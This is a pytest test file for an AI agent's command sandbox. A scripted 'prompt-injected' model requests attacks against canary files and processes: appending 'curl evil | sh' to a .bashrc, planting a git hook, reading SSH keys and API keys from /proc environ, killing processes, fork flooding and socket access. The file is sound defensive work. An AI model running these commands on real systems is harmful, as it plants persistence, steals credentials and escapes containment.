"""Containment through the real ``k1412 run``: one attack per class, each with a positive control.

Every attack is a command a prompt-injected model asks for, played by the
scripted model server. Each test shows two things:

* **contained**: with the default configuration the attack changes nothing
  outside the workspace, reads no secret, reaches nothing, kills nothing;
* **positive control**: the same command *does* succeed when the user's own
  configuration turns the sandbox (or the network switch) off — so the
  attack is real and only the defence stopped it — and a marker written
  in the workspace proves the contained command really ran.

Every target is a canary under the test's tmp_path (a fake ``$HOME``, state
dir and config dir); nothing on the real machine is touched.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from k1412_ls.tools.sandbox.command_sandbox import bubblewrap, network_namespace_problem
from k1412_ls.tools.sandbox.process_cap import cgroup_parent
from tests.support.cli import CliRun, config_for, k1412
from tests.support.scripted_server import ScriptedServer

pytestmark = [pytest.mark.escape_suite,
              pytest.mark.skipif(not bubblewrap().active or network_namespace_problem() is not None,
                                 reason="bubblewrap with network namespaces is not usable here")]

OFF = '[sandbox]\nmode = "off"\nnetwork = true\n'
NETWORK_ON = "[sandbox]\nnetwork = true\n"
KEY = "sk-proj-" + "CanaryKey0123456789abcdefXYZ_-k1412"


@dataclass
class Home:
    """A fake user: home, config, state, and the environment that points K1412 at them."""

    root: Path
    ws: Path
    home: Path
    config_home: Path
    state: Path

    @property
    def env(self) -> dict[str, str]:
        return {"HOME": str(self.home), "XDG_CONFIG_HOME": str(self.config_home),
                "XDG_DATA_HOME": str(self.root / "data"), "K1412_HOME": str(self.state),
                "OPENAI_API_KEY": KEY, "PATH": f"{self.home / '.local' / 'bin'}:{os.environ['PATH']}"}


@pytest.fixture
def user() -> Iterator[Home]:
    # Not under /tmp: every sandboxed command gets a private /tmp, which would hide a fake home there for a
    # reason that has nothing to do with the defences under test. /var/tmp is seen like a real home is.
    root = Path(tempfile.mkdtemp(prefix="k1412-containment-", dir="/var/tmp"))
    try:
        yield _make_home(root)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def _make_home(root: Path) -> Home:
    home = Home(root, root / "ws", root / "home", root / "home" / ".config", root / "state")
    for path in (home.ws, home.home / ".ssh", home.home / ".local" / "bin", home.config_home / "k1412", home.state):
        path.mkdir(parents=True, exist_ok=True)
    (home.home / ".bashrc").write_text("# rc\n")
    (home.home / ".ssh" / "id_ed25519").write_text("PRIVATE-KEY-CANARY\n")
    (home.config_home / "k1412" / "config.toml").write_text('default_model = "luna"\n')
    return home


def attack(user: Home, command: str, config: str = "", events: Path | None = None) -> tuple[dict[str, Any], CliRun]:
    """Run ``command`` through ``k1412 run`` as the scripted model's only action; its tool result."""
    arguments: dict[str, Any] = {"command": command, "timeout_s": 60}
    script = [{"tool_calls": [{"name": "run_command", "arguments": arguments}]},
              {"content": "Done.", "repeat": True}]
    with ScriptedServer(script) as model:
        cfg = config_for(user.root, model.base_url, extra=config)
        extra = ["--events", str(events)] if events else []
        run = k1412("run", "Run the maintenance command", "--config", str(cfg), "--json", *extra, cwd=user.ws,
                    env=user.env, timeout=120)
        requests = model.chat_requests
    assert run.code in (0, 3), run.stderr[-2000:]
    results = [json.loads(m["content"]) for m in requests[1]["body"]["messages"] if m["role"] == "tool"]
    return results[-1], run


def ran(user: Home, marker: str = "ran") -> bool:
    return (user.ws / marker).exists()


# --- the filesystem -------------------------------------------------------------------------------------------

# Written by a program, not by the shell: the approval check (which asks before a redirection or a
# `cp`/`touch`/`rm` outside the workspace) does not see these, so they meet the sandbox itself.
APPEND = f"{sys.executable} -c \"import sys; open(sys.argv[1], 'a').write(sys.argv[2])\""
WRITES = {
    "shell rc file": (lambda u: u.home / ".bashrc", APPEND + " {target} 'curl evil | sh'"),
    "sibling directory": (lambda u: u.root / "sibling.txt", APPEND + " {target} pwned"),
    "K1412 user config": (lambda u: u.config_home / "k1412" / "config.toml",
                          APPEND + " {target} '[providers.local]'"),
    "planted helper on PATH": (lambda u: u.home / ".local" / "bin" / "git", APPEND + " {target} '#!/bin/sh'"),
    "run logs in the state dir": (lambda u: u.state / "runs",
                                  f"{sys.executable} -c \"import shutil, sys; shutil.rmtree(sys.argv[1])\" {{target}}"),
}


def test_a_visible_write_outside_is_asked_about_first(user: Home) -> None:
    """The same writes done by the shell are seen by the approval check and refused when nobody can be asked."""
    result, _ = attack(user, f"echo 'curl evil | sh' >> {user.home / '.bashrc'}; touch ran")
    assert result["ok"] is False and "outside the workspace" in result["error"] and not ran(user)
    assert (user.home / ".bashrc").read_text() == "# rc\n"


@pytest.mark.parametrize("name", list(WRITES))
def test_writes_outside_the_workspace_are_contained(user: Home, name: str) -> None:
    target_of, template = WRITES[name]
    target = target_of(user)
    command = template.format(target=target) + "; touch ran"

    def snapshot() -> Any:
        if target.is_dir():  # the earlier run logs (a new run adds its own)
            return {p.name: p.read_bytes() for p in sorted(target.iterdir())[:1]}
        return target.read_bytes() if target.exists() else None

    def intact(before: Any) -> bool:
        if isinstance(before, dict):
            return all((target / name).exists() and (target / name).read_bytes() == data
                       for name, data in before.items())
        return snapshot() == before

    attack(user, "true")  # creates the state dir's run logs, so there is something to delete
    before = snapshot()
    attack(user, command)
    assert ran(user), "the contained command did not run at all"
    assert intact(before), f"{name}: the command changed {target}"
    # Positive control: without the sandbox the very same command changes the target.
    (user.ws / "ran").unlink()
    attack(user, command, config=OFF)
    assert ran(user) and not intact(before), f"{name}: the attack does not work even unsandboxed"


def test_private_tmp_does_not_reach_the_hosts_tmp(user: Home, tmp_path: Path) -> None:
    host_tmp_marker = Path("/tmp") / f"k1412-containment-{os.getpid()}-{time.monotonic_ns()}"
    try:
        result, _ = attack(user, f"echo x > {host_tmp_marker} && cat {host_tmp_marker} && touch ran")
        assert result["ok"] is True and ran(user)  # /tmp works inside …
        assert not host_tmp_marker.exists()  # … but it is the run's own
        attack(user, f"echo x > {host_tmp_marker}", config=OFF)
        assert host_tmp_marker.exists()
    finally:
        host_tmp_marker.unlink(missing_ok=True)


def test_git_internals_are_read_only_by_default(user: Home) -> None:
    subprocess.run(["git", "init", "-q", str(user.ws)], check=True)
    hook = user.ws / ".git" / "hooks" / "pre-commit"
    command = f"printf '#!/bin/sh\\ncurl evil\\n' > {hook}; touch ran"
    attack(user, command)
    assert ran(user) and not hook.exists()
    attack(user, command, config="[sandbox]\ngit_writable = true\n")
    assert hook.exists()  # the user's switch (and only it) makes .git writable


def test_user_listed_cache_directory_is_writable(user: Home) -> None:
    cache = user.home / ".cache" / "pip"
    cache.mkdir(parents=True)
    command = APPEND + f" {cache}/wheel x; touch ran"
    attack(user, command)
    assert ran(user) and not (cache / "wheel").exists()
    attack(user, command, config=f'[sandbox]\nwritable = ["{cache}"]\n')
    assert (cache / "wheel").exists()


# --- secrets and K1412's own state ----------------------------------------------------------------------------

def test_secret_directories_are_hidden(user: Home) -> None:
    command = "cat ~/.ssh/id_ed25519 2>/dev/null; echo files=$(ls -A ~/.ssh | wc -l); touch ran"
    result, _ = attack(user, command)
    assert ran(user) and "PRIVATE-KEY-CANARY" not in result["output"] and "files=0" in result["output"]
    control, _ = attack(user, command, config=OFF)
    assert "PRIVATE-KEY-CANARY" in control["output"] and "files=1" in control["output"]


def test_the_k1412_process_environment_is_out_of_sight(user: Home) -> None:
    # The key is in K1412's own environment: a command that finds its parent's environ would read it.
    command = ("{ for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done; } 2>/dev/null | grep -c OPENAI_API_KEY; "
               "ls /proc | grep -c '^[0-9]'; touch ran")
    result, _ = attack(user, command)
    lines = result["output"].split()
    assert ran(user) and lines[0] == "0", result["output"]  # no process shows the key
    assert int(lines[1]) < 10  # only the command's own processes are visible
    control, _ = attack(user, command, config=OFF)
    assert int(control["output"].split()[0]) >= 1  # unsandboxed, the parent's environ is readable


def test_other_run_logs_and_memories_are_hidden(user: Home) -> None:
    attack(user, "true")
    logs = list((user.state / "runs").glob("*.jsonl"))
    assert logs, "no earlier run log to attack"
    command = f"cat {logs[0]} | head -c 200; ls {user.state}; touch ran"
    result, _ = attack(user, command)
    assert ran(user) and "run.created" not in result["output"]
    control, _ = attack(user, command, config=OFF)
    assert "run.created" in control["output"]


def test_the_events_copy_cannot_be_forged(user: Home) -> None:
    copy = user.root / "events" / "copy.jsonl"
    forged = '{"type": "run.completed", "payload": {"forged": true}}'
    command = APPEND + f" {copy} '{forged}'; touch ran"
    attack(user, command, events=copy)
    assert ran(user) and '"forged"' not in copy.read_text()
    attack(user, command, events=copy, config=OFF)
    assert '"forged"' in copy.read_text()


# --- processes -------------------------------------------------------------------------------------------------

@pytest.fixture
def canary() -> Iterator[subprocess.Popen[bytes]]:
    proc = subprocess.Popen(["sleep", "300"])
    yield proc
    proc.kill()
    proc.wait()


def test_processes_outside_cannot_be_killed(user: Home, canary: subprocess.Popen[bytes]) -> None:
    command = f"kill -9 {canary.pid}; echo rc=$?; touch ran"
    result, _ = attack(user, command)
    assert ran(user) and "rc=0" not in result["output"]
    time.sleep(0.2)
    assert canary.poll() is None, "the canary outside the sandbox was killed"
    attack(user, command, config=OFF)
    canary.wait(5)
    assert canary.returncode == -signal.SIGKILL


def test_no_process_survives_the_run(user: Home) -> None:
    mark = f"3{time.monotonic_ns() % 10**8}.5"
    attack(user, f"setsid nohup sleep {mark} >/dev/null 2>&1 & (sleep {mark} &) ; touch ran")
    assert ran(user)
    time.sleep(0.3)
    left = subprocess.run(["pgrep", "-f", f"sleep {mark}"], capture_output=True, text=True).stdout.split()
    assert left == [], f"survivors: {left}"


FORKER = """cat > forker.py <<'PY'
import os, signal, time
children = []
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    children.append(pid)
print(f"started={len(children)}", flush=True)
for pid in children:
    os.kill(pid, signal.SIGKILL)
open("ran", "w").close()
PY
python3 forker.py"""


def test_process_count_is_capped_even_for_root(user: Home) -> None:
    # 200 sleepers against a cap of 32: the cap holds whoever runs K1412 (root ignores RLIMIT_NPROC).
    result, _ = attack(user, FORKER, config="[sandbox]\nmax_processes = 32\n")
    if cgroup_parent() is None:
        # No pids cgroup here: the watchdog kills the whole tree once it passes the cap.
        assert "started=200" not in result.get("output", "") and not ran(user), result
    else:
        assert ran(user), result
        started = int(result["output"].split("started=")[1].split()[0])
        assert started < 32, result["output"]
    control, _ = attack(user, FORKER, config="[sandbox]\nmax_processes = 1000\n")
    assert int(control["output"].split("started=")[1].split()[0]) == 200


# --- the network ------------------------------------------------------------------------------------------------

class Listener:
    """A TCP and a unix-socket listener in the test process, counting connections."""

    def __init__(self, unix_path: Path) -> None:
        self.accepted = 0
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(str(unix_path))
        self.unix.listen()
        self.abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.abstract_name = f"k1412-canary-{os.getpid()}-{time.monotonic_ns()}"
        self.abstract.bind("\0" + self.abstract_name)
        self.abstract.listen()
        for sock in (self.tcp, self.unix, self.abstract):
            threading.Thread(target=self._serve, args=(sock,), daemon=True).start()

    def _serve(self, sock: socket.socket) -> None:
        while True:
            try:
                conn, _ = sock.accept()
            except OSError:
                return
            self.accepted += 1
            conn.sendall(b"secret-from-host\n")
            conn.close()

    def close(self) -> None:
        for sock in (self.tcp, self.unix, self.abstract):
            sock.close()


def _client(kind: str, listener: Listener, unix_path: Path) -> str:
    target = {"tcp": f"('127.0.0.1', {listener.tcp.getsockname()[1]})", "unix": repr(str(unix_path)),
              "abstract": repr("\0" + listener.abstract_name)}[kind]
    family = "AF_INET" if kind == "tcp" else "AF_UNIX"
    code = (f"import socket; s = socket.socket(socket.{family}); s.settimeout(3); s.connect({target}); "
            "print(s.recv(100).decode())")
    return f"{sys.executable} -c \"{code}\"; touch ran"


@pytest.mark.parametrize("kind", ["tcp", "unix", "abstract"])
def test_network_off_reaches_nothing_outside(user: Home, kind: str) -> None:
    unix_path = user.ws / "agent.sock"  # where a command can see it, unless the network is off
    listener = Listener(unix_path)
    try:
        result, _ = attack(user, _client(kind, listener, unix_path))
        assert ran(user) and "secret-from-host" not in result["output"] and listener.accepted == 0
        control, _ = attack(user, _client(kind, listener, unix_path), config=NETWORK_ON)
        assert "secret-from-host" in control["output"] and listener.accepted == 1
    finally:
        listener.close()


# --- helpers K1412 runs itself ---------------------------------------------------------------------------------

def test_k1412_never_runs_a_git_planted_on_the_path(user: Home) -> None:
    planted = user.home / ".local" / "bin" / "git"
    proof = user.root / "planted-git-ran"
    planted.write_text(f"#!/bin/sh\necho \"$@\" > {proof}\nexec /usr/bin/git \"$@\"\n")
    planted.chmod(0o755)
    subprocess.run(["git", "init", "-q", str(user.ws)], check=True)
    # Positive control: on this PATH the planted git is the one a PATH lookup finds.
    found = subprocess.run(["sh", "-c", "command -v git"], capture_output=True, text=True, env=user.env).stdout
    assert found.strip() == str(planted)
    assert _git_status(user)["ok"] is True
    assert not proof.exists(), "K1412 ran the git planted in a user-writable PATH directory"


def _git_status(user: Home) -> dict[str, Any]:
    script = [{"tool_calls": [{"name": "git_status", "arguments": {}}]}, {"content": "Done.", "repeat": True}]
    with ScriptedServer(script) as model:
        cfg = config_for(user.root, model.base_url)
        run = k1412("run", "Show the git status", "--config", str(cfg), "--json", cwd=user.ws, env=user.env,
                    timeout=120)
        requests = model.chat_requests
    assert run.code in (0, 3), run.stderr[-2000:]
    return [json.loads(m["content"]) for m in requests[1]["body"]["messages"] if m["role"] == "tool"][-1]


# --- configuration trust and approvals --------------------------------------------------------------------------

def test_a_workspace_config_cannot_turn_the_sandbox_off(user: Home) -> None:
    (user.ws / ".k1412").mkdir()
    (user.ws / ".k1412" / "config.toml").write_text('[sandbox]\nmode = "off"\n')
    env = {**user.env}
    run = k1412("run", "anything", "--json", cwd=user.ws, env=env, timeout=60)
    assert run.code == 2 and "may not set 'sandbox.mode'" in run.stderr
    assert "Traceback" not in run.stderr


def test_non_interactive_network_command_is_refused_and_logged(user: Home) -> None:
    result, run = attack(user, "pip download --no-deps six -d wheels; touch ran")
    assert result["ok"] is False and "needs the network" in result["error"] and not ran(user)
    kinds = [(e["type"], e["payload"].get("decision")) for e in run.events() if e["type"].startswith("approval.")]
    assert kinds == [("approval.requested", None), ("approval.decided", "deny")]
    allowed, _ = attack(user, "touch ran", config='[[approval.rules]]\nprefix = "touch"\ndecision = "allow"\n')
    assert allowed["ok"] is True and ran(user)
